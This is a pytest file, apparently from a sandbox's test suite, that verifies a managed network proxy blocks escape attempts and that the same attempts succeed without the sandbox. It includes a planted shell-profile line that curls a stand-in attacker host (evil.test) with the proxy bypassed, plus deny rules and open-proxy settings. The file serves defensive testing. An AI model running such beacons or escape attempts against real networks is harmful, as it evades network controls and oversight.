"""Attempts to get out of a managed network are refused, and each is successful without it."""

from __future__ import annotations

import errno
import json
import os
import socket
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from tests.network import attempts
from tests.network.attempts import ALL, ANY, ATTEMPTS, LIMITED, LISTED, SUCCEEDED, Attempt
from tests.network.internet import (
    ABSTRACT,
    NAMES,
    OPEN_HTTP,
    OPEN_SOCKS,
    PERMITTED,
    PERMITTED_V6,
    Arrival,
    Internet,
)
from tests.sandbox.host import Host, Tree
from tests.sandbox.profiles import DISABLED, WORKSPACE
from tests.support.wire import Json

DENIED_NAMES = {"evil.test", "evil6.test", "xn--k-0tb.test"}
DOMAINS: dict[str, dict[str, Json]] = {
    LISTED: dict.fromkeys({*NAMES, "hosts-file.test", "*.rebinding.test"} - DENIED_NAMES, "allow"),
    ALL: {"*": "allow", "**.evil.test": "deny"},
    LIMITED: {"ok.test": "allow"},
}
OPEN_PROXY = {
    "HTTP_PROXY": f"http://127.0.0.1:{OPEN_HTTP}",
    "ALL_PROXY": f"socks5h://127.0.0.1:{OPEN_SOCKS}",
}
LACKING = (
    errno.EPROTONOSUPPORT,
    errno.EAFNOSUPPORT,
    errno.ESOCKTNOSUPPORT,
    errno.EPROTOTYPE,
    errno.EOPNOTSUPP,
    errno.ENOSYS,
    errno.ENOENT,
    errno.ENODEV,
    errno.EPERM,
)
"""Errors of a kernel without a feature, or with the feature turned off."""

SECONDS = 50

Results = dict[str, dict[str, Any]]


def managed(tree: Tree, rules: str, permissions: Json = WORKSPACE) -> dict[str, Json]:
    """The members of a start with a managed network of these rules."""
    mode = "limited" if rules == LIMITED else "full"
    proxy = {"enabled": True, "enableSocks5": True, "mode": mode, "domains": DOMAINS[rules]}
    return {
        "sandbox": tree.context(permissions),
        "enforceManagedNetwork": True,
        "networkProxy": {"proxy": proxy},
    }


def run(
    internet: Internet,
    host: Host,
    name: str,
    which: list[Attempt],
    rules: str | None = None,
    permissions: Json = WORKSPACE,
) -> Results:
    """Make attempts in one command, in a sandbox if there are rules, and return what came of each."""
    tree = host.tree()
    facts = {
        "run": name,
        "names": [attempt.name for attempt in which],
        "outside": rules is None,
        "holder": internet.pid,
        "held": int((internet.folder / "held").read_text()),
        "network": os.stat(f"/proc/{internet.pid}/ns/net").st_ino,
        "victim": host.victim.pid,
        "abstract": ABSTRACT,
        "daemon": host.server.url.removeprefix("unix://"),
        **{each: str(internet.folder / each) for each in ("socket", "datagrams", "descriptors")},
    }
    program = tree.ws / "attempts.py"
    program.write_bytes(Path(attempts.__file__).read_bytes())
    by_open_proxy = rules is None and which[0].by_proxy
    env = tree.env | (OPEN_PROXY if by_open_proxy else {})
    members = {} if rules is None else managed(tree, rules, permissions)
    process = host.start(tree, ["python3", str(program), json.dumps(facts)], env=env, **members)
    done = host.finish(process, SECONDS)
    assert done.exit_code == 0, done
    return {result["name"]: result for result in map(json.loads, done.output.splitlines())}


def ways_out(internet: Internet, name: str, results: Results) -> dict[str, str]:
    """How attempts of a run got out; those that did not are missing."""
    arrivals = internet.arrivals()
    ways = {}
    for each, result in results.items():
        token = attempts.token(name, each)
        heard = [one for one in arrivals if token in one.data and not is_permitted(ATTEMPTS[each], one)]
        if result["output"] == SUCCEEDED:
            ways[each] = SUCCEEDED
        elif internet.denied_secret in result["output"]:
            ways[each] = "it has the answer of a denied server"
        elif heard:
            ways[each] = f"it was heard: {heard[0]}"
    return ways


def lacks(attempt: Attempt, result: dict[str, Any]) -> bool:
    """Whether the kernel has nothing of what an attempt uses."""
    return attempt.may_lack and result["error"] is not None and result["error"][0] in LACKING


def is_permitted(attempt: Attempt, arrival: Arrival) -> bool:
    if arrival.kind == "name":
        return arrival.data.endswith(".rebinding.test")
    if arrival.to not in (PERMITTED, PERMITTED_V6):
        return False
    return attempt.rules != LIMITED or arrival.data.startswith(("GET ", "HEAD "))


SANDBOXES = {LISTED: WORKSPACE, ALL: WORKSPACE, LIMITED: WORKSPACE, f"{LISTED}, all files": DISABLED}


@pytest.mark.parametrize("sandbox", SANDBOXES)
def test_every_attempt_is_refused(internet: Internet, host: Host, sandbox: str) -> None:
    rules, name = sandbox.partition(",")[0], f"in{list(SANDBOXES).index(sandbox)}"
    which = [attempt for attempt in ATTEMPTS.values() if attempt.rules in (rules, ANY)]
    results = run(internet, host, name, which, rules, SANDBOXES[sandbox])
    assert ways_out(internet, name, results) == {}
    for attempt in which:
        # What is permitted works, so that the others do not fail for another reason.
        if attempt.rules == ANY:
            assert internet.permitted_secret in results[attempt.name]["output"]


@pytest.mark.parametrize("by_proxy", [False, True], ids=["directly", "by an open proxy"])
def test_every_attempt_is_successful_without_the_sandbox(
    internet: Internet, host: Host, by_proxy: bool
) -> None:
    name = "openproxy" if by_proxy else "direct"
    which = [each for each in ATTEMPTS.values() if each.by_proxy == by_proxy and each.rules != ANY]
    ways: dict[str, str] = {}
    missing = which
    for turn in range(3):  # the open proxy forwards nothing that pauses for longer than it waits
        results = run(internet, host, f"{name}{turn}", missing)
        ways |= ways_out(internet, f"{name}{turn}", results)
        missing = [each for each in missing if each.name not in ways and not lacks(each, results[each.name])]
        if not missing:
            break
    assert [results[each.name] for each in missing] == []
    assert len(ways) >= 60


INHERITED = """
import os
for name in os.listdir("/proc/self/fd"):
    if int(name) > 2 and os.path.lexists(f"/proc/self/fd/{name}"):
        print(os.readlink(f"/proc/self/fd/{name}"))
"""


def test_a_command_inherits_no_descriptor_but_its_streams(host: Host) -> None:
    tree = host.tree()
    for members in ({}, {"tty": True}, {"pipeStdin": True}):
        assert host.python(tree, INHERITED, **managed(tree, LISTED), **members).output == b""
    with socket.socket() as given:
        command = [sys.executable, "-c", INHERITED]
        done = subprocess.run(command, pass_fds=[given.fileno()], capture_output=True)
        assert done.stdout.startswith(b"socket:")


PROFILE = "curl -s -m 3 --noproxy '*' http://evil.test/profile-$WHICH\n"


def test_the_profile_of_a_login_shell_has_no_other_network(internet: Internet, host: Host) -> None:
    tree = host.tree()
    tree.add({"ws/home/.profile": PROFILE})
    snapshot = {"scopeId": "a", "shell": {"name": "bash", "path": "/bin/bash"}}
    for which, members in (("confined", managed(tree, LISTED)), ("free", {})):
        env = tree.env | {"HOME": str(tree.ws / "home"), "WHICH": which}
        host.run(tree, ["/bin/bash", "-lc", "true"], env=env, shellSnapshot=snapshot, **members)
    heard = "".join(arrival.data for arrival in internet.arrivals())
    assert "profile-free" in heard
    assert "profile-confined" not in heard
